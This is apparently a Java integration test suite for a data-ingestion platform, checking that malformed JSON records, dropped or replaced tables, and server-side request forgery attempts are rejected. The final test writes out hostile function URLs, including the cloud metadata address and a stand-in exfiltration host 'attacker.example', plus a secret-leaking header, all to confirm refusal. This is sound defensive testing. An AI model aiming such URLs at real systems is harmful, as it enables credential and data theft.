package io.tributary.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import io.tributary.core.config.TributaryConfig;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.apache.iceberg.Schema;
import org.apache.iceberg.catalog.TableIdentifier;
import org.apache.iceberg.types.Types;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a careless or hostile client sends fails alone and visibly: records nested too deep, with
 * colliding or too many keys, with numbers no column type holds; a dropped or replaced table stops
 * its delivery; functions cannot be aimed at the platform itself or at hosts not allowed.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HardeningIT {
  private static final Duration WAIT = Duration.ofSeconds(60);

  @TempDir static Path dir;
  private Platform platform;
  private Http http;

  @BeforeAll
  void start() {
    String yaml =
        TestConfigs.yaml(
                dir,
                0,
                """
                  - name: hostile
                    partitions: 1
                    buffer: { interval: 1s }
                  - name: doomed
                    partitions: 1
                    buffer: { interval: 1s }
                  - name: usurped
                    partitions: 1
                    buffer: { interval: 1s }
                """)
            + """
            ingest: { max-keys-per-record: 500 }
            egress: { allowed-hosts: ["catalog.invalid"] }
            topics:
              - name: notes
            """;
    platform = Platform.start(TributaryConfig.fromYaml(yaml, "test"), Clock.systemUTC());
    http = Http.admin(platform);
  }

  @AfterAll
  void stop() {
    platform.close();
  }

  private static String deep(int levels) {
    return "{\"d\":" + "[".repeat(levels) + "]".repeat(levels) + "}";
  }

  @Test
  void deepJsonFailsAloneWithTooDeepOnRecordsAndTopicMessages() {
    String tooDeep = deep(1_500);
    String ok = deep(500);
    for (String path : List.of("/v1/streams/hostile/records", "/v1/topics/notes/messages")) {
      var ndjson =
          http.post(path, "application/x-ndjson", "{\"n\":1}\n" + tooDeep + "\n" + ok + "\n");
      assertThat(ndjson.status()).as(path).isEqualTo(200);
      assertThat(ndjson.body().path("accepted").asInt()).isEqualTo(2);
      assertThat(ndjson.body().path("errors").path(0).path("index").asInt()).isEqualTo(1);
      assertThat(ndjson.body().path("errors").path(0).path("code").asText()).isEqualTo("too_deep");
      assertThat(ndjson.body().path("errors").path(0).path("message").asText()).contains("1000");
      var array = http.post(path, "application/json", "[{\"n\":2}, " + tooDeep + ", {\"n\":3}]");
      assertThat(array.status()).as(path).isEqualTo(200);
      assertThat(array.body().path("accepted").asInt()).isEqualTo(2);
      assertThat(array.body().path("errors").path(0).path("code").asText()).isEqualTo("too_deep");
      var single = http.post(path, "application/json", tooDeep);
      assertThat(single.status()).isEqualTo(200);
      assertThat(single.body().path("errors").path(0).path("code").asText()).isEqualTo("too_deep");
    }
  }

  @Test
  void recordsThatCannotBeRowsGoToTheErrorTableWithTheirReason() {
    StringBuilder wide = new StringBuilder("{");
    for (int i = 0; i < 100_000; i++) {
      wide.append(i == 0 ? "" : ",").append('"').append(Integer.toString(i, 36)).append("\":1");
    }
    wide.append('}');
    List<String> bad =
        List.of(
            "{\"a.b\":1,\"a\":{\"b\":2}}",
            "{\"a_b\":3,\"A_B\":4}",
            "{\"big\":123456789012345678901234567890}",
            "{\"inf\":1e400}",
            "{\"dup\":1,\"dup\":2}",
            "{\"_ingested_at\":\"2020-01-01T00:00:00Z\"}");
    var response =
        http.post(
            "/v1/streams/hostile/records",
            "application/x-ndjson",
            "{\"good\":1,\"日本語\":\"はい\",\"a\":{\"b\":5}}\n" + String.join("\n", bad) + "\n");
    assertThat(response.body().path("accepted").asInt()).isEqualTo(7);
    // 100,000 keys: within the gateway's byte limits, over the keys limit
    assertThat(wide.length()).isLessThan(1000 << 10);
    assertThat(http.ndjson("hostile", wide.toString()).body().path("accepted").asInt())
        .isEqualTo(1);
    // a key path other than the column's own goes to errors too
    http.ndjson("hostile", "{\"a_b\":6}\n{\"good\":2}\n");

    await()
        .atMost(WAIT)
        .until(() -> http.count("SELECT count(*) FROM raw.hostile WHERE good IS NOT NULL") == 2);
    await()
        .atMost(WAIT)
        .until(() -> http.count("SELECT count(*) FROM raw.hostile_errors") == bad.size() + 2);
    JsonNode codes =
        http.sql("SELECT code, count(*) FROM raw.hostile_errors GROUP BY 1 ORDER BY 1")
            .body()
            .path("rows");
    assertThat(codes.toString())
        .contains("[\"column_collision\",3]")
        .contains("[\"number_out_of_range\",2]")
        .contains("[\"duplicate_key\",1]")
        .contains("[\"reserved_column\",1]")
        .contains("[\"too_many_keys\",1]");
    assertThat(http.count("SELECT count(*) FROM raw.hostile WHERE \"日本語\" = 'はい' AND a_b = 5"))
        .isEqualTo(1);
    JsonNode table = http.get("/v1/tables/raw.hostile").body();
    assertThat(table.toString()).doesNotContain("\"zzz\"");
  }

  @Test
  void aTableDroppedWhileDeliveringFailsItsDeliveryWithTheReason() {
    http.ndjson("doomed", "{\"x\":1}");
    await().atMost(WAIT).until(() -> http.count("SELECT count(*) FROM raw.doomed") == 1);
    platform.lake().catalog().dropTable(TableIdentifier.of("raw", "doomed"), true);
    http.ndjson("doomed", "{\"x\":2}");
    await()
        .atMost(WAIT)
        .until(
            () ->
                http.get("/v1/streams/doomed")
                    .body()
                    .path("delivery")
                    .path("state")
                    .asText()
                    .equals("failed"));
    assertThat(http.get("/v1/streams/doomed").body().path("delivery").toString())
        .contains("raw.doomed")
        .contains("dropped");
  }

  @Test
  void aTableRenamedIntoItsPlaceIsNeverWritten() {
    http.ndjson("usurped", "{\"x\":1}");
    await().atMost(WAIT).until(() -> http.count("SELECT count(*) FROM raw.usurped") == 1);
    var catalog = platform.lake().catalog();
    catalog.createTable(
        TableIdentifier.of("raw", "foreign"),
        new Schema(Types.NestedField.optional(1, "x", Types.LongType.get())));
    catalog.dropTable(TableIdentifier.of("raw", "usurped"), false);
    catalog.renameTable(TableIdentifier.of("raw", "foreign"), TableIdentifier.of("raw", "usurped"));
    http.ndjson("usurped", "{\"x\":2}");
    await()
        .atMost(WAIT)
        .until(
            () ->
                http.get("/v1/streams/usurped")
                    .body()
                    .path("delivery")
                    .path("state")
                    .asText()
                    .equals("failed"));
    assertThat(http.get("/v1/streams/usurped").body().path("delivery").toString())
        .contains("replaced");
    assertThat(catalog.loadTable(TableIdentifier.of("raw", "usurped")).currentSnapshot())
        .as("the foreign table was not written")
        .isNull();
  }

  @Test
  void functionsAimedAtThePlatformOrAtHostsNotAllowedAreRefused() {
    List<String> urls = new ArrayList<>();
    urls.add("http://127.0.0.1:" + platform.httpUri().getPort() + "/v1/tables/{table}");
    urls.add("http://127.0.0.1:" + platform.httpUri().getPort() + "/v1/query?{q}");
    urls.add("http://localhost:" + platform.httpUri().getPort() + "/health?{q}");
    urls.add("http://169.254.169.254/latest/meta-data/{q}");
    urls.add("http://attacker.example/collect/{q}");
    for (String url : urls) {
      var response =
          http.put(
              "/v1/functions/ssrf",
              """
              {"topic": "notes", "type": "http-enrich", "url": "%s", "emit-to": "loot"}
              """
                  .formatted(url));
      assertThat(response.status()).as(url).isEqualTo(400);
      assertThat(response.body().toString())
          .as(url)
          .contains("egress")
          .contains(url.substring(0, url.indexOf('{')));
    }
    var secret =
        http.put(
            "/v1/functions/leak",
            """
            {"topic": "notes", "type": "http-enrich", "url": "http://catalog.invalid/{q}",
             "headers": {"Authorization": "Bearer ${secret:token}"}, "emit-to": "loot"}
            """);
    assertThat(secret.status()).isEqualTo(400);
    assertThat(secret.body().toString()).contains("secrets.token.allowed-hosts");
    assertThat(http.get("/v1/functions/ssrf").status()).isEqualTo(404);
  }
}
